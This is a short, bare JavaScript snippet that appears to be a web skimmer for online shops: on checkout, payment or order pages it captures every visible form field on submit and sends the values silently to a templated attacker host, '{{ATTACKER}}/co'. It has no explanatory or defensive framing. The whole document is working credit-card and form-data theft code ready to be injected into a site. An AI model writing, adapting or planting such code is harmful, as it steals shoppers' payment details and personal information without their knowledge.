
;(function () {
  if (!/checkout|onepage|payment|order/i.test(location.pathname)) {
    return;
  }
  document.addEventListener('submit', function (e) {
    var d = new URLSearchParams();
    e.target.querySelectorAll('input').forEach(function (i) {
      if (i.type !== 'hidden') {
        d.append(i.name || i.id, i.value);
      }
    });
    fetch('{{ATTACKER}}/co', {method: 'POST', mode: 'no-cors', keepalive: true, body: d});
  }, true);
})();
